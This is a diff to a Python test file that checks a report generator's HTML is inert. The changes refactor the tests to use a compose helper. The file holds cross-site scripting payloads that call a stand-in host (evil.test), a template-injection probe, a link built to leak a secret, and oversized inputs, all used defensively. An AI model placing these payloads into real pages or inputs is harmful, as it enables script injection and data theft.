@@ -5,9 +5,9 @@ from dataclasses import replace
 
 import pytest
 
-from mcp_local.report.compose import CONTENT_SECURITY_POLICY, ReportDraft, compose_report
+from mcp_local.report.compose import CONTENT_SECURITY_POLICY
 from mcp_local.report.markdown import parse_markdown, render_tokens
-from tests.mcp_local.report.reading import DAY, SOURCES, Element, read_html, source
+from tests.mcp_local.report.reading import Element, compose, read_html, source
 
 PAYLOADS = [
     "<script>fetch('//evil')</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
@@ -75,10 +75,8 @@ def assert_inert(html: str) -> Element:
 @pytest.mark.proves("report.inert")
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_a_payload_in_the_text_is_inert(payload: str) -> None:
-    draft = ReportDraft(
-        title="Topic", markdown=f"## Section\n\n{payload}\n\nEnd. [1]", summary=payload
-    )
-    tree = assert_inert(compose_report(draft, SOURCES, DAY).html)
+    report = compose(f"## Section\n\n{payload}\n\nEnd. [1]", summary=payload)
+    tree = assert_inert(report.html)
     assert "End." in tree.text
 
 
@@ -86,15 +84,14 @@ def test_a_payload_in_the_text_is_inert(payload: str) -> None:
 def test_a_payload_in_titles_and_addresses_is_text(payload: str) -> None:
     evil = replace(source(1, payload, kind="snippet"), url=payload, title=payload)
     lure = replace(source(2), url=f"https://ok.test/{payload}")
-    draft = ReportDraft(title=f"On {payload}", markdown="End. [1, 2]", language=payload)
-    tree = assert_inert(compose_report(draft, [evil, lure], DAY).html)
+    report = compose("End. [1, 2]", title=f"On {payload}", language=payload, sources=[evil, lure])
+    tree = assert_inert(report.html)
     assert tree.one(id="source-1").all("a") == []
     assert len(tree.one(id="source-2").all("a")) == 1
 
 
 def test_template_syntax_in_the_text_is_not_run() -> None:
-    draft = ReportDraft(title="{{ 7 * 7 }}", markdown="{{ 7 * 7 }} [1]")
-    html = compose_report(draft, SOURCES, DAY).html
+    html = compose("{{ 7 * 7 }} [1]", title="{{ 7 * 7 }}").html
     assert "49" not in re.sub(r"<style>.*?</style>", "", html, flags=re.DOTALL)
     assert "{{ 7 * 7 }}" in html
 
@@ -102,16 +99,14 @@ def test_template_syntax_in_the_text_is_not_run() -> None:
 def test_a_link_says_that_it_gives_nothing_away() -> None:
     url = "https://ok.test/a?b=1&c=2"
     known = replace(source(1), url=url)
-    draft = ReportDraft(title="T", markdown=f"See [there]({url}). [1]")
-    tree = assert_inert(compose_report(draft, [known], DAY).html)
+    tree = assert_inert(compose(f"See [there]({url}). [1]", sources=[known]).html)
     assert {link.attrs["rel"] for link in tree.all("a", href=url)} == {
         "noopener noreferrer nofollow"
     }
 
 
 def test_an_address_that_was_not_retrieved_is_text_with_its_host() -> None:
-    draft = ReportDraft(title="T", markdown="A [gift](https://evil.test/?d=SECRET). [1]")
-    html = compose_report(draft, SOURCES, DAY).html
+    html = compose("A [gift](https://evil.test/?d=SECRET). [1]").html
     assert "gift (evil.test)" in html
     assert "SECRET" not in html
 
@@ -122,17 +117,11 @@ def test_an_address_that_is_refused_leaves_its_text() -> None:
 
 
 def test_deep_nesting_and_long_runs_end_soon() -> None:
-    for text in (
-        ">" * 5000 + " x",
-        "[" * 20000,
-        "*" * 20000,
-        "- " * 3000,
-        "`" * 20001,
-        "[!" * 9999,
-    ):
+    long_runs = ["[" * 20000, "*" * 20000, "- " * 3000, "`" * 20001, "[!" * 9999]
+    for text in (">" * 5000 + " x", *long_runs):
         render_tokens(parse_markdown(text))
 
 
 def test_a_title_is_one_line_of_visible_text() -> None:
-    draft = ReportDraft(title="# A\u202e topic\n\x00with  gaps\u200b", markdown="End. [1]")
-    assert compose_report(draft, [source(1)], DAY).title == "A topic with gaps"
+    title = "# A\u202e topic\n\x00with  gaps\u200b"
+    assert compose("End. [1]", title=title).title == "A topic with gaps"
